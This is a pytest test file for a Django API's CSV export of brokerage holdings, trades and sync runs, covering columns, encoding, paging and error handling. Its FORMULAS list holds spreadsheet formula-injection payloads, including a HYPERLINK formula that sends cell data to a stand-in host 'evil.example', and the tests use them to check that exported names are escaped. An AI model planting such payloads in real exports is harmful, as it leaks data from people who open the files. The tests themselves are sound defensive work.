"""Lists of the API as files for a spreadsheet."""

from datetime import timedelta
from decimal import Decimal

import pytest
from django.db import DatabaseError

from kis.api import views
from kis.models import KbTrade, KisDailySummary, KisHolding, KisOrderDetail, Stock
from tests.factories import AT, fill, snapshot, stocks, sync_run
from tests.factories import Stock as Held
from tests.kis.api_rows import AGREEING, ROUTES, error_of, make_rows

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1)',
    "+82-10",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
]


@pytest.mark.parametrize("route", ROUTES)
def test_file_has_the_columns_and_rows_of_the_list(api, route):
    make_rows(3)
    listed, filed = api.rows(route), api.table(route)
    assert [list(row) for row in filed] == [list(row) for row in listed]
    plain = [
        name for name, value in listed[0].items() if isinstance(value, int) and not isinstance(value, bool)
    ]
    assert "id" in plain
    for name in plain:
        assert [row[name] for row in filed] == [str(row[name]) for row in listed]


def test_file_opens_in_a_spreadsheet(api):
    snapshot([Held(name="삼성전자")])
    response = api.get("holdings", format="csv")
    content = response.getvalue()
    assert content.startswith(b"\xef\xbb\xbfid,account,")
    assert "삼성전자".encode() in content
    assert content.endswith(b"\r\n")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="holdings.csv"'


def test_empty_list_is_a_header(api):
    assert api.csv("stocks").splitlines() == [
        "id,code,isin,name,market,kind,sector,listed_on,halted,managed,nxt,source,updated_at"
    ]


@pytest.mark.parametrize("name", FORMULAS)
def test_name_of_a_stock_is_never_a_formula(api, name):
    snapshot([Held(name=name)])
    fill(1, name=name)
    Stock.objects.create(
        code="005930", name=name, market="KOSPI", kind="stock", source="master", updated_at=AT
    )
    for route, column in (("holdings", "stock_name"), ("executions", "stock_name"), ("stocks", "name")):
        assert api.table(route)[0][column] == f"'{name}"
        assert api.rows(route)[0][column] == name


def test_losses_stay_numbers(api):
    make_rows(1)
    KisHolding.objects.update(evlu_pfls_amt=-1_234_567, evlu_pfls_rt=-12.34)
    KisOrderDetail.objects.update(avg_prvs=Decimal("56999.3333"))
    row = api.table("holdings")[0]
    assert (row["evlu_pfls_amt"], row["evlu_pfls_rt"]) == ("-1234567", "-12.34")
    assert api.table("order-details")[0]["avg_prvs"] == "56999.3333"
    assert KisDailySummary.objects.get().day_return == Decimal("-1.23456789")
    assert api.table("daily-summaries")[0]["day_return"] == "-1.23456789"
    assert api.table("kb-trades")[0]["net"] == str(KbTrade.objects.get().net) == "-171025"


def test_what_is_unknown_stays_empty(api):
    fill(1, commission=None, tax=None, cost_source="unknown")
    row = api.table("executions")[0]
    assert (row["commission"], row["tax"], row["is_paper"]) == ("", "", "false")


def test_checks_of_a_run_are_in_the_file(api):
    sync_run(checks=[AGREEING.as_json()])
    row = api.table("sync-runs")[0]
    assert row["badge"] == "일치"
    assert '"name": "보유 평가금액 합"' in row["checks"]


def test_file_is_not_cut_at_a_page_and_keeps_the_conditions(api, monkeypatch):
    monkeypatch.setattr(views, "CHUNK", 7)
    for minute in range(3):
        snapshot(stocks(9), at=AT + timedelta(minutes=minute), with_closes=False)
    assert [row["id"] for row in api.table("holdings")] == [
        str(row["id"]) for row in api.rows("holdings", limit=500)
    ]
    assert len(api.table("holdings")) == 27
    assert [row["stock_code"] for row in api.table("holdings", code="010004")] == ["010004"] * 3


def test_asking_for_csv_by_header_is_the_same(api):
    snapshot([Held()])
    response = api.client.get("/api/v1/holdings", headers={"accept": "text/csv"})
    assert response.getvalue() == api.get("holdings", format="csv").getvalue()


@pytest.mark.parametrize("name", ["limit", "cursor"])
def test_file_takes_no_page(api, name):
    assert api.error("holdings", 400, format="csv", **{name: "1"})["detail"] == {"field": name}


def test_error_of_a_file_is_an_error_not_a_file(api, monkeypatch):
    assert api.error("holdings", 400, format="csv", code="?")["code"] == "bad_parameter"

    def broken(*_arguments, **_named):
        raise DatabaseError("no such column: secret")
        yield

    monkeypatch.setattr(views, "every_page", broken)
    response = api.get("holdings", format="csv")
    assert error_of(response, 500)["code"] == "server_error"
    assert b"secret" not in response.content


def test_file_that_breaks_off_says_so_in_its_last_line(api, monkeypatch, caplog):
    def broken(rows, order, *, limit):
        yield list(order.sorted(rows)[:1])
        raise DatabaseError("server is gone")

    snapshot(stocks(2))
    monkeypatch.setattr(views, "every_page", broken)
    lines = api.csv("holdings").splitlines()
    assert len(lines) == 3
    assert lines[2].startswith("오류: 여기서 끊겼습니다.")
    assert "CSV export broke off" in caplog.text


def test_head_of_a_file_sends_no_rows(api):
    snapshot([Held()])
    response = api.client.head("/api/v1/holdings?format=csv")
    assert (response.status_code, response.getvalue()) == (200, b"")
